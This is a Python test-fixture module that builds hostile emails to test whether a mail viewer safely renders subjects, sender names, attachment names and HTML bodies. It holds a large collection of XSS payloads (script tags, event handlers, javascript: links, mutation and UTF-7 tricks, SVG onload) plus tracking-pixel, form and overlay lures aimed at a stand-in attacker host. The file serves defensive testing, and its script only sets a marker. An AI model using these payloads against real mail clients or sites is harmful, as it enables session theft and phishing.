"""Mails that attack whoever looks at them.

Each tries to run a script, to make the browser ask somebody, or to leave
the frame it is shown in.  What a script does when it runs: it sets
`window.attacked` in every window it can reach; what asks, asks for
attacker.sekimori-test.net, which does not exist.

SPDX-License-Identifier: BSD-2-Clause
"""

import base64
import dataclasses
import typing

from lab import world
from lab.mails import Mail

ATTACKER = "http://attacker.sekimori-test.net"
RUN = "window.attacked=1;try{top.attacked=1}catch(e){}"

# In any text: subjects, names, file names.
IN_TEXT = [
    f"<script>{RUN}</script>",
    f"\"><img src=x onerror={RUN}>",
    f"'><svg onload={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</textarea></option></select><script>{RUN}</script>",
    f"{{{{csrf}}}}{{{{{{csrf}}}}}}{{{{>layout}}}}<script>{RUN}</script>",
    f"javascript:{RUN}//",
    f"--><script>{RUN}</script><!--",
    "\u202e<script>\u2066\u200b evil\u202c",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\" autofocus onfocus={RUN} x=\"",
    f"`;{RUN};`${{{RUN}}}",
    "%3Cscript%3E" + RUN + "%3C/script%3E",
    "\\u003cscript\\u003e" + RUN + "\\u003c/script\\u003e",
]

# In the HTML of a mail.
IN_HTML = {
    "script": f"<script>{RUN}</script><SCRIPT SRC={ATTACKER}/a.js></SCRIPT>",
    "events": f"<img src=x onerror={RUN}><body onload={RUN}>"
              f"<svg/onload={RUN}><details open ontoggle={RUN}>x</details>"
              f"<video><source onerror={RUN}></video>"
              f"<input autofocus onfocus={RUN}>"
              f"<marquee onstart={RUN}>x</marquee>",
    "pictures": f"<img src={ATTACKER}/pixel.png>"
                f"<img srcset='{ATTACKER}/2x.png 2x'>"
                f"<picture><source srcset={ATTACKER}/p.webp></picture>"
                f"<input type=image src={ATTACKER}/input.png>"
                f"<video poster={ATTACKER}/poster.png></video>"
                f"<table background={ATTACKER}/table.png><tr><td>x</table>"
                f"<svg><image href={ATTACKER}/svg.png /></svg>",
    "frames": f"<iframe src={ATTACKER}/frame></iframe>"
              f"<iframe srcdoc='<script>{RUN}</script>'></iframe>"
              f"<object data={ATTACKER}/object></object>"
              f"<embed src={ATTACKER}/embed><applet code=x></applet>"
              f"<frameset><frame src={ATTACKER}/f></frameset>",
    "links": f"<a href='javascript:{RUN}'>a</a>"
             f"<a href='java&#10;script:{RUN}'>b</a>"
             f"<a href='data:text/html,<script>{RUN}</script>'>c</a>"
             f"<a href='{ATTACKER}/' target=_top>d</a>"
             f"<area href='javascript:{RUN}'><a xlink:href='{ATTACKER}'>e</a>",
    "forms": f"<form action={ATTACKER}/form id=f><input name=p>"
             f"<button>Sign in</button></form>"
             f"<button form=f formaction={ATTACKER}/b>x</button>"
             f"<isindex action={ATTACKER}/i>",
    "head": f"<base href={ATTACKER}/><meta http-equiv=refresh "
            f"content='0;url={ATTACKER}/refresh'>"
            f"<link rel=stylesheet href={ATTACKER}/a.css>"
            f"<link rel=prefetch href={ATTACKER}/prefetch>"
            f"<link rel=dns-prefetch href={ATTACKER}>",
    "style": f"<style>@import '{ATTACKER}/import.css';"
             f"body{{background:url({ATTACKER}/bg.png)}}"
             f"@font-face{{font-family:x;src:url({ATTACKER}/font.woff)}}"
             f"p{{font-family:x;position:fixed;inset:0;z-index:9999}}"
             f"</style></style><script>{RUN}</script>",
    "style attribute": f"<div style=\"background-image:url({ATTACKER}/s.png);"
                       f"position:fixed;top:0;left:0;width:100vw;"
                       f"height:100vh;background-color:red\">Sign in again"
                       f"</div><p style='list-style:url({ATTACKER}/l.png);"
                       f"width:expression({RUN});behavior:url(x);"
                       f"-moz-binding:url({ATTACKER}/x)'>y</p>"
                       f"<p style='background:u\\72l({ATTACKER}/e.png)'>z</p>"
                       f"<p style='cursor:image-set(\"{ATTACKER}/c\")'>z</p>",
    "mutation": f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>"
                f"\"></svg><math><mtext><table><mglyph><style><!--</style>"
                f"<img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">"
                f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>"
                f"\"></noscript><template><script>{RUN}</script></template>"
                f"<textarea></textarea><script>{RUN}</script>"
                f"<![CDATA[<script>{RUN}</script>]]><!--><script>{RUN}"
                f"</script>-->",
    "cut": "<div title=\"<p>" + "<b>" * 2000 + f"<img src=x onerror={RUN}",
}


@dataclasses.dataclass
class Attack:
    name: str
    mail: Mail
    sender: str = ""


def _mail(subject, sender=None, body=b"Hello.\r\n"):
    return Mail(sender or f"a@{world.domain('spammer')}", "taro",
                subject, body, charset="utf-8")


def _quoted(text):
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _html(content):
    return (b"<!DOCTYPE html><html><head><title>t</title></head><body>"
            b"<p>shown-to-people</p>" + content.encode() + b"</body></html>")


def all_attacks() -> typing.List[Attack]:
    attacks = []
    spammer = world.domain("spammer")
    for number, text in enumerate(IN_TEXT):
        # Subject, name of the sender, envelope sender, names of fields.
        mail = _mail(text, f"{_quoted(text)} <a@{spammer}>")
        mail.add("X-" + "Odd", text)
        mail.set("Message-ID", f"<{mail.marker}{text.replace(' ', '')}@x>")
        mail.multipart([
            ("text/plain; charset=utf-8", None, text.encode()),
            ("application/octet-stream",
             f"attachment; filename={_quoted(text)}", b"x"),
            ("application/octet-stream; name=\"=?utf-8?B?"
             + base64.b64encode(text.encode()).decode() + "?=\"",
             "attachment", b"y"),
        ])
        local = f'"{text}"' if number == 0 else "a"
        attacks.append(Attack(f"text {number}", mail,
                              f"{local}@{spammer}" if number else
                              f'"<script>{number}</script>"@{spammer}'))
    for name, content in IN_HTML.items():
        mail = _mail(f"html {name}")
        mail.multipart([("text/html; charset=utf-8", None, _html(content))])
        attacks.append(Attack(f"html {name}", mail))
    utf7 = _mail("html utf-7")
    utf7.multipart([("text/html; charset=utf-7", None, _html(
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"))])
    attacks.append(Attack("html utf-7", utf7))
    svg = _mail("html svg picture")
    svg.multipart([
        ("text/html; charset=utf-8", None, _html("<img src=cid:a>")),
        ("image/svg+xml\r\nContent-ID: <a>", "inline",
         f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'>"
         f"<script>{RUN}</script><image href='{ATTACKER}/in.png'/></svg>"
         .encode())])
    attacks.append(Attack("html svg picture", svg))
    return attacks
